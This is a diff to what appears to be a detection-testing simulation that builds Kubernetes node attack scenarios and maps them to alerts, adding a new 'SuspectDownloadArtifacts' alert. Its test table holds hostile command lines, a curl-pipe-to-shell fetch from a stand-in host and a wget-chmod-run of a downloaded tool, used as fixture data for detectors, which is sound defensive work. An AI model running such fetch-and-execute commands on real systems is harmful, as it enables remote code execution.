@@ -4,13 +4,15 @@ from __future__ import annotations
 
 from simulation.attacks.bystanders import bystander
 from simulation.attacks.register import careful, near_miss, straight
-from simulation.attacks.scene import Scene, Shell, Started
+from simulation.attacks.scene import Scene
+from simulation.attacks.shells import Shell, Started
 from simulation.attacks.tables import Place, encoded, line, run, table
 from simulation.clock import HOUR, SECOND
 from simulation.schedule import Life
 
 COMBO = "K8S.NODE_DownloadAndRunCombo"
 WEB_SHELL = "K8S.NODE_Webshell"
+WAY = "K8S.NODE_SuspectDownloadArtifacts"
 RUNNER = ("ci", "gitlab-runner")
 SITES = ("storefront", "api-node", "nginx")
 SCRIPT = "https://get.pale-harbor.example/setup.sh"
@@ -28,7 +30,7 @@ table(
             f"curl -fsSL {SCRIPT} | sh",
             runs=[f"curl -fsSL {SCRIPT}", Started("sh", MAKE)],
             images=SITES,
-            also=(WEB_SHELL,),
+            also=(WEB_SHELL, WAY),
         ),
         line(f"wget -q {TOOL} && chmod +x tool && ./tool", at=Place.EXEC, cwd="/srv"),
         line(
